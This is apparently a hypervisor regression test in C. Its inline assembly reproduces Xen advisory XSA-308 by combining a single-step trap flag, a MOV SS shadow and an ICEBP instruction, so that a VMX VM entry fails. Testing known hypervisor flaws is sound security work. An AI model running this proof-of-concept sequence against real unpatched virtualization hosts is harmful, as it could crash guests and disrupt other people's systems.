/* SPDX-License-Identifier: MIT
 * D5: (XSA-308) A single step, held back by MOV SS, and ICEBP in its shadow: on VMX a VM entry
 * of it failed. The machine stays alive, the program does not.
 */
#include "hostile.h"

HOSTILE_MAIN
{
    __asm__ volatile("mov %%ss, %%eax; pushfq; orl $0x100, (%%rsp); popfq; mov %%eax, %%ss; .byte 0xf1"
                     : : : "rax", "memory", "cc");
}
